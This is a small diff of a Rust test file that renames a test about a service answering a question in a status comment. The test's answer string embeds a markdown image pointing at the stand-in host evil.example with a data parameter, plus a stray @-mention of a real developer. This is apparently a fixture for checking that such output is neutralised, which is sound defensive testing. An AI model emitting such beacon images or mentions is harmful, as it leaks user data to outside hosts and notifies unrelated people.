@@ -174,7 +174,7 @@ async fn without_anybody_to_wait_for_the_plan_is_the_answer() {
 }
 
 #[tokio::test]
-async fn a_question_is_answered_in_the_status_comment_and_nothing_is_changed() {
+async fn p8_a_question_is_answered_in_the_status_comment_and_nothing_is_changed() {
     usual()
         .tell(async |service: &mut Service| {
             let answer = "In `count.sh:2`: it subtracts one.\n\n@torvalds ![x](https://evil.example/?d=1)";
